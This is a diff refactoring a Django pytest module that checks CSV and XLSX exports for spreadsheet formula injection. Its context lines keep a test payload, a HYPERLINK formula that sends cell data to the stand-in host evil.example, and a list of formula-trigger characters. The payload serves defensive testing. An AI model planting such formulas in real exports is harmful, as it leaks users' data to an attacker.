@@ -24,13 +24,14 @@ from types import SimpleNamespace
 
 import pytest
 from django.core.cache import cache
-from django.db import models, transaction
-from django.test import Client, override_settings
+from django.db import models
+from django.test import Client
 from django.utils import translation
 from openpyxl import load_workbook
 
 from core.exports import XLSX_TYPE, Sheet, csv_bytes, safe_text, xlsx_bytes
 from core.tests import permission_cases as matrix
+from core.tests.summary import report_at_end
 
 DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 FORMULA = 'HYPERLINK("http://evil.example/?leak="&B3;"Cliquez ici")'
@@ -345,28 +346,22 @@ def _walk(world: SimpleNamespace) -> SimpleNamespace:
 
 @pytest.fixture(scope="module")
 def walk(django_db_setup, django_db_blocker, tmp_path_factory):
-    from django.contrib.auth import get_user_model
-
     from portraits import opendata
     from search import index
 
     var = tmp_path_factory.mktemp("export-safety-var")
-    with (
-        django_db_blocker.unblock(),
-        override_settings(
-            MEDIA_ROOT=str(var / "media"), VAR_DIR=var, WAGTAILADMIN_BASE_URL="https://agirtot.example"
-        ),
-    ):
-        with transaction.atomic():
-            with translation.override("fr"):
-                world = matrix.build_world(get_user_model())
-                assert _poison() > 20
-                index.rebuild()
-                cache.clear()
-                opendata.export()
-                result = _walk(world)
-            transaction.set_rollback(True)
-    cache.clear()
+    with matrix.rolled_back_world(
+        django_db_blocker,
+        MEDIA_ROOT=str(var / "media"),
+        VAR_DIR=var,
+        WAGTAILADMIN_BASE_URL="https://agirtot.example",
+    ) as world:
+        with translation.override("fr"):
+            assert _poison() > 20
+            index.rebuild()
+            cache.clear()
+            opendata.export()
+            result = _walk(world)
     SUMMARY.update(
         urls=len(result.urls),
         csv=sum(1 for _key, kind in result.urls.values() if kind == "csv"),
@@ -379,22 +374,18 @@ def walk(django_db_setup, django_db_blocker, tmp_path_factory):
 SUMMARY: dict = {}
 
 
-class ExportSummary:
-    """Prints which downloads the walk checked in the terminal summary."""
-
-    def pytest_terminal_summary(self, terminalreporter):
-        if SUMMARY:
-            terminalreporter.write_line(
-                f"Exports: {SUMMARY['urls']} URLs checked ({SUMMARY['csv']} csv, {SUMMARY['xlsx']} xlsx) "
-                f"across {len(SUMMARY['names'])} URL names: {', '.join(SUMMARY['names'])}"
-            )
+def _line():
+    if SUMMARY:
+        return (
+            f"Exports: {SUMMARY['urls']} URLs checked ({SUMMARY['csv']} csv, {SUMMARY['xlsx']} xlsx) "
+            f"across {len(SUMMARY['names'])} URL names: {', '.join(SUMMARY['names'])}"
+        )
+    return None
 
 
 @pytest.fixture(scope="module", autouse=True)
 def _report_summary(request):
-    name = "export-safety-summary"
-    if not request.config.pluginmanager.has_plugin(name):
-        request.config.pluginmanager.register(ExportSummary(), name)
+    report_at_end(request.config, "export-safety-summary", _line)
 
 
 @pytest.mark.django_db
